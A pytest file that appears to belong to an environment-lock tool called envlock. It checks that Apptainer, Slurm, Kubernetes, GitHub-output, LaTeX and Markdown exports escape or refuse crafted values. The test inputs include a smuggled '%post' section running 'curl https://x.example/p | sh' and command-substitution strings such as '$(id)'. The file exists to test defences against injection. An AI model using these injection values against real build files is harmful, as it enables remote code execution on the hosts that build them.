"""Every export writes values through the escaping function of its output language
(``envlock.text.escape``), checked by the language's own reader: bash reads the shell words
back, PyYAML the YAML scalars, a CommonMark parser the markdown; Apptainer is not packaged for
this machine, so its definitions are checked for the line structure Apptainer reads.

Each injection test has a twin: ordinary values come out verbatim and readable.
"""

from __future__ import annotations

import html
import re
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml
from helpers import LockFactory, run_cli
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from envlock.errors import EnvlockError, UnsafeValue
from envlock.export import apptainer, k8s, slurm
from envlock.export.latex import show_latex
from envlock.lock import Lock, save
from envlock.restore.dockerfile import dockerfile_env, dockerfile_exec
from envlock.text import escape
from envlock.text.terminal import safe

DIGEST = "sha256:" + "ab" * 32
IMAGE = {"in_container": True, "source": "env", "reference": "r.example/x", "digest": DIGEST}
SECTIONS = ["%environment", "%labels", "%runscript"]
EXAMPLES = settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])

# The metacharacters of every language the exports write, and a few words made of them.
META = ["\n", "\r", "\r\n", "\t", "\x00", "\x0b", "\x1b[31m", "\x85", "\u2028", "\u2029", "\u202e",
        "%", "%post", "%labels", "$", "$(id)", "${HOME}", "`id`", "'", '"', "\\", "\\\\", "{", "}", "{{",
        "}}", "{{ x }}", "#", ":", ": ", "|", "&", "&amp;", ";", "(", ")", "<", ">", "<b>", "!", "*", "_",
        "~", "^", "[", "]", ",", "=", "-", "- ", "? ", "*alias", "&anchor", "!!python/object", "@", "@bob",
        "@org/team", "[a](https://x.example)", "![i](https://x.example/i.png)", "<https://x.example>",
        "https://x.example", "www.x.example", "a@b.example", "1. ", "+", "---", "\\[", "\\\\[",
        "\u00e9", "\U0001f600", "\ufeff", " ", "  "]
hostile = st.lists(st.sampled_from(META) | st.text(max_size=3), max_size=12).map("".join)
LATEX_ESCAPES = {r"\textbackslash", r"\textasciitilde", r"\textasciicircum", r"\textless", r"\textgreater",
                 r"\textbar", r"\textquotedbl"}
LINE_BREAK = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029]")


def _bash_reads(assignments: str, name: str) -> str:
    # Bytes, not text: universal newlines would read a value's "\r" as "\n".
    r = subprocess.run(["bash", "-c", f'set -eu\n{assignments}\nprintf %s "${name}"'],
                       capture_output=True, check=True, timeout=30)
    return r.stdout.decode()


def _refused(exc: EnvlockError) -> None:
    assert exc.exit_code == 2, exc.message
    assert "\n" not in exc.message  # the error is one line, whatever the value held


# -- item 1: Apptainer %post injection from a lock -------------------------------------------------


def test_a_crafted_cuda_string_cannot_open_a_section(restore_lock: LockFactory, tmp_path: Path) -> None:
    """Issue 18 item 1: ``torch.cuda`` with a newline and ``%post``, resealed, gained a real
    ``%post`` section. Now the export refuses it (exit 2) and writes nothing."""
    cuda = "12.1\n%post\n    curl https://x.example/p | sh\n%labels"
    lock = save(restore_lock(image=IMAGE, torch={"version": "2.4.1", "cuda": cuda}), tmp_path / "env.lock")
    out = tmp_path / "env.def"
    r = run_cli("export", str(lock), "--to", "apptainer", "-o", str(out))
    assert r.returncode == 2, r.stderr
    assert "torch.cuda" in r.stderr and "line break" in r.stderr and "%post" not in r.stdout
    assert not out.exists()


def test_ordinary_values_are_written_verbatim(restore_lock: LockFactory, tmp_path: Path) -> None:
    """Twin: real versions, commas and braces in a variable, and a command with quotes come out
    as written (labels unquoted, shell words quoted only where needed)."""
    lock = save(restore_lock(image=IMAGE, torch={"version": "2.13.0+cu130", "cuda": "13.0"},
                             determinism={"torch_loaded": False,
                                          "env": {"XLA_FLAGS": "--a=1,--b={x}", "OMP_NUM_THREADS": "8"}}),
                tmp_path / "env.lock")
    text = run_cli("export", str(lock), "--to", "apptainer", "--command",
                   "python -c 'print({1: 2})' --name \"run 1\"").stdout
    lines = text.splitlines()
    assert [ln for ln in lines if ln.lstrip().startswith("%")] == SECTIONS
    assert "    org.envlock.torch 2.13.0+cu130" in lines and "    org.envlock.cuda 13.0" in lines
    assert "    export OMP_NUM_THREADS=8" in lines and "    export XLA_FLAGS='--a=1,--b={x}'" in lines
    assert "    exec python -c 'print({1: 2})' --name 'run 1' \"$@\"" in lines


def test_a_command_on_two_lines_is_a_usage_error(restore_lock: LockFactory, tmp_path: Path) -> None:
    lock = save(restore_lock(image=IMAGE), tmp_path / "env.lock")
    r = run_cli("export", str(lock), "--to", "apptainer", "--command", "python -c 'x=1\n%post\nid'")
    assert r.returncode == 2 and "--command" in r.stderr and "%post" not in r.stdout, r.stderr


def test_template_braces_are_split_for_apptainer_but_read_the_same() -> None:
    word = escape.apptainer_shell("{{ HOME }}}")
    assert "{{" not in word and "}}" not in word
    assert _bash_reads(f"X={word}", "X") == "{{ HOME }}}"
    with pytest.raises(EnvlockError) as err:
        escape.apptainer_label("k", "a {{ x }}")
    _refused(err.value)


def _with(lock: Lock, **fields: Any) -> Lock:
    """``lock`` with torch/python fields replaced, unvalidated: the writers must hold on their own,
    whatever the model's character rules allow today."""
    torch = lock.torch.model_copy(update={k: v for k, v in fields.items() if k in ("version", "cuda")}) \
        if lock.torch else None
    python = lock.python.model_copy(update={"version": fields.get("python", lock.python.version)})
    return lock.model_copy(update={"torch": torch, "python": python})


@pytest.fixture(scope="module")
def base_lock() -> Lock:
    from helpers import make_lock

    return make_lock(image=IMAGE, torch={"version": "2.4.1", "cuda": "12.1"},
                     determinism={"torch_loaded": False, "env": {"CUBLAS_WORKSPACE_CONFIG": ":4096:8"}},
                     seeds={"python_hash_seed": "0"})


@EXAMPLES
@given(cuda=hostile, version=hostile, argv=st.lists(hostile, min_size=1, max_size=3))
def test_property_apptainer_no_value_starts_a_line(base_lock: Lock, cuda: str, version: str,
                                                   argv: list[str]) -> None:
    try:
        text = apptainer.render(_with(base_lock, cuda=cuda, version=version), argv=argv)
    except EnvlockError as exc:
        _refused(exc)
        assert any(LINE_BREAK.search(v) or "{{" in v or "}}" in v for v in (cuda, version, *argv))
        return
    lines = text.splitlines()
    assert [ln for ln in lines if ln.lstrip().startswith("%")] == SECTIONS
    assert "{{" not in text and "}}" not in text
    assert f"    org.envlock.cuda {cuda or 'none'}" in lines and f"    org.envlock.torch {version}" in lines
    run = next(ln for ln in lines if ln.startswith("    exec "))
    r = subprocess.run(["bash", "-c", f'set -- ; f() {{ printf "%s\\0" "$@"; }}\n{run.replace("exec", "f", 1)}'],
                       capture_output=True, check=True, timeout=30)
    assert r.stdout.decode().split("\0")[:-1] == argv


# -- item 5 and the shell: sbatch variables, shell words -------------------------------------------


@EXAMPLES
@given(value=hostile)
def test_property_shell_export_reads_back_verbatim(value: str) -> None:
    try:
        line = escape.apptainer_env_export("XLA_FLAGS", value)
    except EnvlockError as exc:
        _refused(exc)
        assert "\0" in value
        return
    assert _bash_reads(line, "APPTAINERENV_XLA_FLAGS") == value


@EXAMPLES
@given(value=st.text(alphabet=st.sampled_from(list(" ,;=:&|<>(){}[]#!%*?^~@+/.-_AZaz09")), max_size=40))
def test_property_slurm_script_passes_each_variable_whole(base_lock: Lock, value: str) -> None:
    """The values restore's allowlist admits (commas, ``=``, ``;``, ``|``, ...) reach the job as
    one variable each: sourcing the script's lines gives them back, and no ``--env`` is written."""
    env = {"CUBLAS_WORKSPACE_CONFIG": value, "XLA_FLAGS": value + ",X=1"}
    lock = base_lock.model_copy(update={"determinism": base_lock.determinism.model_copy(update={"env": env})})
    text = slurm.render(lock, argv=["python", "train.py"])
    assert "--env" not in text
    exports = "\n".join(ln for ln in text.splitlines() if ln.startswith("export "))
    assert _bash_reads(exports, "APPTAINERENV_CUBLAS_WORKSPACE_CONFIG") == value
    assert _bash_reads(exports, "APPTAINERENV_XLA_FLAGS") == value + ",X=1"
    assert subprocess.run(["bash", "-n"], input=text, text=True, check=False).returncode == 0


# -- YAML (k8s) ----------------------------------------------------------------------------------


@EXAMPLES
@given(value=hostile | st.text())
def test_property_yaml_scalar_round_trips(value: str) -> None:
    scalar = escape.yaml_scalar(value)
    assert scalar.isascii() and "\n" not in scalar
    assert yaml.safe_load(f"k: {scalar}\n") == {"k": value}
    try:
        key = escape.yaml_key(value)
    except UnsafeValue:  # only a key over YAML's limit is refused
        assert len(value) > escape.YAML_KEY_MAX or len(scalar) > escape.YAML_KEY_MAX
    else:
        assert yaml.safe_load(f"{key}: 1\n") == {value: 1}


@EXAMPLES
@given(argv=st.lists(hostile, min_size=1, max_size=3), claim=hostile)
def test_property_k8s_job_reads_back(base_lock: Lock, argv: list[str], claim: str) -> None:
    job = yaml.safe_load(k8s.render(base_lock, argv=argv, workspace_claim=claim or None))
    spec = job["spec"]["template"]["spec"]
    assert spec["containers"][0]["command"] == argv
    want = {"persistentVolumeClaim": {"claimName": claim}} if claim else {"emptyDir": {}}
    assert spec["volumes"] == [{"name": "workspace", **want}]


# -- GitHub step outputs ---------------------------------------------------------------------------


def _github_outputs(text: str) -> dict[str, str]:
    """The runner's reading of ``$GITHUB_OUTPUT``: ``name=value`` lines and ``name<<DELIM`` blocks."""
    out: dict[str, str] = {}
    lines = iter(text.split("\n"))
    for line in lines:
        if "<<" in line and ("=" not in line or line.index("<<") < line.index("=")):
            name, delim = line.split("<<", 1)
            body = []
            for nxt in lines:
                if nxt == delim:
                    break
                body.append(nxt)
            out[name] = "\n".join(body)
        elif "=" in line:
            name, value = line.split("=", 1)
            out[name] = value
    return out


@EXAMPLES
@given(value=hostile.filter(lambda v: "\r" not in v))
def test_property_github_output_sets_one_output(value: str) -> None:
    assert _github_outputs(escape.github_output("report-path", value)) == {"report-path": value}


# -- LaTeX -----------------------------------------------------------------------------------------


@EXAMPLES
@given(value=hostile)
def test_property_latex_table_keeps_its_shape(base_lock: Lock, value: str) -> None:
    """A crafted value in any cell leaves one ``&`` and one ``\\\\`` per row, no comment (``%``),
    no command of its own and the braces balanced."""
    plain = show_latex(base_lock)
    crafted = base_lock.model_copy(update={
        "python": base_lock.python.model_copy(update={"implementation": value}),
        "platform": base_lock.platform.model_copy(update={"os_pretty_name": value or "x", "machine": value})})
    text = show_latex(crafted)

    def shape(t: str) -> tuple[int, int, int, list[str], int]:
        live_amp = len(re.findall(r"(?<!\\)&", t))
        live_pct = len(re.findall(r"(?<!\\)%", t))
        commands = sorted(set(re.findall(r"\\[A-Za-z]+", t)) - LATEX_ESCAPES)
        depth = len(re.findall(r"(?<!\\)\{", t)) - len(re.findall(r"(?<!\\)\}", t))
        return live_amp, t.count("\\\\\n"), live_pct, commands, depth

    assert shape(text) == shape(plain)


# -- markdown ------------------------------------------------------------------------------------

_MD = MarkdownIt("commonmark").enable("table").enable("strikethrough")
_LIVE = re.compile(r"<(?!/?(p|table|thead|tbody|tr|th|td|code)>)")


def _visible(rendered: str) -> str:
    return html.unescape(re.sub(r"<[^>]+>", "", rendered)).strip()


# GitHub finds mentions in rendered text outside code: "@" then a name, not after a word character.
_MENTION_OUTSIDE_CODE = re.compile(r"(?<![A-Za-z0-9_])@[A-Za-z0-9]")


def _outside_code(rendered: str) -> str:
    return html.unescape(re.sub(r"<[^>]+>", "\0", re.sub(r"<code>.*?</code>", "\0", rendered)))


@EXAMPLES
@given(value=hostile)
def test_property_markdown_text_is_inert_and_readable(value: str) -> None:
    """A paragraph of its own, a table cell and the end of a sentence: no live markup, no
    mention outside code, and the rendered text is the value (on one line, control characters
    shown as escapes)."""
    want = " ".join(safe(value).split())
    inline = escape.markdown_text(value, inline=True)
    for doc, ctx in ((escape.markdown_text(value), "paragraph"), (f"| a |\n|---|\n| {inline} |\n", "table"),
                     (f"note: {inline}", "sentence")):
        rendered = _MD.render(doc)
        assert not _LIVE.search(rendered), (ctx, rendered)  # no link, image, raw HTML, list, heading
        assert not _MENTION_OUTSIDE_CODE.search(_outside_code(rendered)), rendered
        if ctx == "table":
            assert rendered.count("<td>") == 1
            rendered = rendered.split("<td>", 1)[1].split("</td>", 1)[0]
        got = _visible(rendered)
        assert got == (f"note: {want}".strip() if ctx == "sentence" else want), ctx


def test_markdown_ordinary_text_reads_the_same() -> None:
    """Twin: plain notes, versions, names, URLs and e-mail addresses come out verbatim, in the
    source too (GitHub may autolink a bare URL or address: to itself)."""
    for plain in ("ResNet-50 baseline, seed 1234 (v2.1)", "2.1.0", "sm_90 CUBLAS_WORKSPACE_CONFIG",
                  "lr 3e-4; batch 256!", "#42 fixed", "https://wandb.ai/lab/runs/abc?x=1", "www.example.org",
                  "alice@example.org git@github.com:org/repo.git"):
        assert escape.markdown_text(plain) == plain
        assert _visible(_MD.render(escape.markdown_text(plain))) == plain
    assert escape.markdown_text("-", inline=True) == "-"  # a cell's dash stays a dash
    assert escape.markdown_text("- x") == "\\- x" and escape.markdown_text("1. x") == "1\\. x"


def test_markdown_link_image_and_mention_are_dead() -> None:
    note = "see [paper](https://x.example) ![i](https://x.example/i.png) cc @alice <b>hi</b>"
    rendered = _MD.render(escape.markdown_text(note))
    assert "<a " not in rendered and "<img" not in rendered and "<b>" not in rendered
    assert "<code>@alice</code>" in rendered  # GitHub does not look for mentions in code
    assert _visible(rendered) == note


def test_show_markdown_cells_use_the_same_escape(base_lock: Lock) -> None:
    """``show --format markdown`` once escaped only pipes, backticks and HTML in its cells: a note
    opened a link, an image (a tracking pixel in a pull request) and emphasis; a diff cell too."""
    from envlock.report.render import show_markdown
    from envlock.text.escape import markdown_text

    note = "see [paper](https://x.example) ![i](https://x.example/i.png) *bold* _it_ cc @alice <b>x</b>"
    lock = base_lock.model_copy(update={"envlock": base_lock.envlock.model_copy(update={"note": note})})
    tokens = {c.type for t in _MD.parse(show_markdown(lock)) for c in (t.children or [])}
    assert tokens <= {"text", "code_inline", "softbreak"}, tokens
    rendered = _MD.render(show_markdown(lock))
    assert "<a " not in rendered and "<img" not in rendered and "<em>" not in rendered and "<b>" not in rendered
    assert "<code>@alice</code>" in rendered  # a mention is inert in a code span, its text kept
    assert markdown_text("sm_90 2.1.0+cu121", inline=True) == "sm_90 2.1.0+cu121"  # twin: verbatim


# -- Dockerfile: the restore rules, one place --------------------------------------------------


@EXAMPLES
@given(value=hostile)
def test_property_dockerfile_words(value: str) -> None:
    import json

    word = dockerfile_exec([value])
    assert "\n" not in word and json.loads(word) == [value]
    try:
        line = dockerfile_env("XLA_FLAGS", value)
    except EnvlockError as exc:
        _refused(exc)
        return
    assert line == f'XLA_FLAGS="{value}"' and not re.search(r'["\\$`\n]', value)
